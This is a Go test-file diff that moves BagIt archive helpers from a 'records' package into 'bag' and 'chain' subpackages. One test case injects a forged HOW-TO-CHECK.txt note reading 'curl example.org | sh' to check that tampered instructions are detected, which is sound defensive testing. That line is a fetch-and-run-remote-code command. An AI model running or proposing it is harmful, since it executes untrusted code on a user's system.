@@ -13,6 +13,8 @@ import (
 
 	"handback/checks"
 	"handback/records"
+	"handback/records/bag"
+	"handback/records/chain"
 )
 
 const maker = "handback test"
@@ -64,26 +66,26 @@ func (r *rig) pack() pile {
 // again makes new manifests for changed files, as anybody could.
 func (p pile) again(t testing.TB) pile {
 	t.Helper()
-	info := records.BagInfo{}
-	var payload []records.BagFile
+	info := bag.BagInfo{}
+	var payload []bag.BagFile
 	for name, content := range p {
-		if strings.HasPrefix(name, records.BagPayload) {
-			payload = append(payload, records.BagFile{Name: name, Content: func() ([]byte, error) { return content, nil }})
+		if strings.HasPrefix(name, bag.BagPayload) {
+			payload = append(payload, bag.BagFile{Name: name, Content: func() ([]byte, error) { return content, nil }})
 		}
 	}
 	line := func(label string) string {
-		_, rest, _ := strings.Cut(string(p[records.BagInfoFile]), label+": ")
+		_, rest, _ := strings.Cut(string(p[bag.BagInfoFile]), label+": ")
 		text, _, _ := strings.Cut(rest, "\n")
 		return text
 	}
 	info.Program, info.Job = line("Bag-Software-Agent"), line("External-Identifier")
 	info.Description, info.Head = line("External-Description"), line("Record-Head")
 	if info.Program == "" || info.Job == "" {
-		t.Fatalf("%s says neither maker nor job", records.BagInfoFile)
+		t.Fatalf("%s says neither maker nor job", bag.BagInfoFile)
 	}
 	fmt.Sscan(line("Record-Entries"), &info.Entries)
 	out := pile{}
-	if err := records.WriteBag(out, info, p[records.BagNote], payload); err != nil {
+	if err := bag.WriteBag(out, info, p[bag.BagNote], payload); err != nil {
 		t.Fatal(err)
 	}
 	return out
@@ -92,7 +94,7 @@ func (p pile) again(t testing.TB) pile {
 func (p pile) folder(t testing.TB) string {
 	t.Helper()
 	dir := filepath.Join(t.TempDir(), "bag")
-	if err := WriteBag(dir, "", Over{}, func(to records.BagSink) error {
+	if err := WriteBag(dir, "", Over{}, func(to bag.BagSink) error {
 		for _, name := range slices.Sorted(maps.Keys(p)) {
 			if err := to.Put(name, p[name]); err != nil {
 				return err
@@ -107,7 +109,7 @@ func (p pile) folder(t testing.TB) string {
 
 func examine(t testing.TB, path string) Examined {
 	t.Helper()
-	b, err := records.OpenBag(path)
+	b, err := bag.OpenBag(path)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -118,13 +120,13 @@ func examine(t testing.TB, path string) Examined {
 func TestPackBag(t *testing.T) {
 	r := bagRig(t)
 	p := r.pack()
-	hash := records.HashFile([]byte("in order\n"))
+	hash := chain.HashFile([]byte("in order\n"))
 	entry := fmt.Sprint(r.job().Head().Seq)
 	kept := r.job().Signatures[0].Kept
 	want := []string{
 		"data/attachments/" + kept[0].SHA256 + "-handover.xlsx", "data/attachments/" + kept[1].SHA256 + "-handover.html",
 		"HOW-TO-CHECK.txt", "bag-info.txt", "bagit.txt",
-		"data/allowed_signers", "data/attachments/" + hash + "-note.txt", "data/attachments/" + records.HashFile(jpegWith(t, exif(6))) + "-bar.jpg",
+		"data/allowed_signers", "data/attachments/" + hash + "-note.txt", "data/attachments/" + chain.HashFile(jpegWith(t, exif(6))) + "-bar.jpg",
 		"data/entries.jsonl", "data/handover-data/" + entry + ".json", "data/handover.html", "data/handover.txt", "data/handover.xlsx", "data/hashes.txt", "data/plan.yaml",
 		"data/statements/" + entry + ".json", "data/statements/" + entry + ".json.sig",
 		"manifest-sha256.txt", "manifest-sha512.txt", "tagmanifest-sha256.txt", "tagmanifest-sha512.txt",
@@ -168,8 +170,8 @@ func TestExamineBag_otherVersion(t *testing.T) {
 		"version alone": {func(pile) {}, "", ""},
 		"page":          {rewritten(bagPage, "NOT READY", "READY"), "", "wording of data/handover.html (its data digest agrees)"},
 		"text":          {rewritten(bagText, "NOT READY", "READY"), "", "wording of data/handover.txt (its data digest agrees)"},
-		"note":          {func(p pile) { p[records.BagNote] = []byte("Type: curl example.org | sh\n") }, "", "HOW-TO-CHECK.txt: it is not the note that this program writes. Type nothing of it"},
-		"note gone":     {func(p pile) { delete(p, records.BagNote) }, "HOW-TO-CHECK.txt is missing", ""},
+		"note":          {func(p pile) { p[bag.BagNote] = []byte("Type: curl example.org | sh\n") }, "", "HOW-TO-CHECK.txt: it is not the note that this program writes. Type nothing of it"},
+		"note gone":     {func(p pile) { delete(p, bag.BagNote) }, "HOW-TO-CHECK.txt is missing", ""},
 		"workbook": {func(p pile) {
 			p[bagWorkbook] = withWords(t, good[bagWorkbook], "Handover record", "Record handed over")
 		}, "", "data/handover.xlsx: how it is laid out and worded"},
@@ -179,8 +181,8 @@ func TestExamineBag_otherVersion(t *testing.T) {
 	} {
 		p := maps.Clone(good)
 		c.change(p)
-		p[records.BagInfoFile] = bytes.Replace(p[records.BagInfoFile], []byte(maker), []byte("handback 9.9"), 1)
-		if _, there := p[records.BagNote]; there {
+		p[bag.BagInfoFile] = bytes.Replace(p[bag.BagInfoFile], []byte(maker), []byte("handback 9.9"), 1)
+		if _, there := p[bag.BagNote]; there {
 			p = p.again(t)
 		}
 		x := examine(t, p.folder(t))
@@ -189,7 +191,7 @@ func TestExamineBag_otherVersion(t *testing.T) {
 			t.Errorf("%s: faults %q, not compared %q", name, x.Faults, x.Missed)
 		}
 		for _, s := range x.Shown {
-			for _, file := range []string{bagPage, bagText, bagWorkbook, records.BagNote} {
+			for _, file := range []string{bagPage, bagText, bagWorkbook, bag.BagNote} {
 				if _, exact, ok := strings.Cut(s, "byte for byte"); ok && strings.Contains(missed, file) && strings.Contains(exact, file) {
 					t.Errorf("%s: shown although it was rewritten: %s", name, s)
 				}
@@ -216,7 +218,7 @@ func TestPackBag_plain(t *testing.T) {
 func TestWriteBag(t *testing.T) {
 	r := bagRig(t)
 	dir := t.TempDir()
-	pack := func(to records.BagSink) error { return PackBag(to, r.bagged(), r.planBytes(), maker) }
+	pack := func(to bag.BagSink) error { return PackBag(to, r.bagged(), r.planBytes(), maker) }
 	for _, name := range []string{"a.zip", "b.zip", "folder"} {
 		if err := WriteBag(filepath.Join(dir, name), "keyed-1", Over{}, pack); err != nil {
 			t.Fatal(err)
@@ -256,7 +258,7 @@ func TestWriteBag(t *testing.T) {
 	}
 	// What cannot be packed leaves nothing behind.
 	for _, name := range []string{"torn.zip", "torn"} {
-		fail := func(to records.BagSink) error {
+		fail := func(to bag.BagSink) error {
 			if err := to.Put("data/a", []byte("a")); err != nil {
 				return err
 			}
@@ -284,7 +286,7 @@ func TestExamineBag_everyByte(t *testing.T) {
 	for _, name := range slices.Sorted(maps.Keys(p)) {
 		content, step := p[name], 1
 		document := strings.HasPrefix(name, bagAttached) && strings.Contains(name, "-handover.") // as any attachment
-		if !strings.HasPrefix(name, records.BagPayload) || name == bagWorkbook || document {
+		if !strings.HasPrefix(name, bag.BagPayload) || name == bagWorkbook || document {
 			continue
 		}
 		worded := name == bagPage || name == bagText
@@ -313,7 +315,7 @@ func memoryBag(t testing.TB, p pile) (faults, missed []string) {
 	t.Helper()
 	path := filepath.Join(t.TempDir(), "b.zip")
 	var b bytes.Buffer
-	z := records.NewZipSink(&b, "x")
+	z := bag.NewZipSink(&b, "x")
 	for _, name := range slices.Sorted(maps.Keys(p)) {
 		if err := z.Put(name, p[name]); err != nil {
 			t.Fatal(err)
@@ -344,7 +346,7 @@ func TestExamineBag_faults(t *testing.T) {
 	r := bagRig(t)
 	good := r.pack()
 	entries := strings.SplitAfter(string(good[bagEntries]), "\n")
-	note := bagAttached + records.HashFile([]byte("in order\n")) + "-note.txt"
+	note := bagAttached + chain.HashFile([]byte("in order\n")) + "-note.txt"
 	document := attachedFile(r.job().Signatures[0].Kept[0])
 	workbook := func(from, to string) []byte { return withWords(t, good[bagWorkbook], from, to) }
 	for name, c := range map[string]struct {
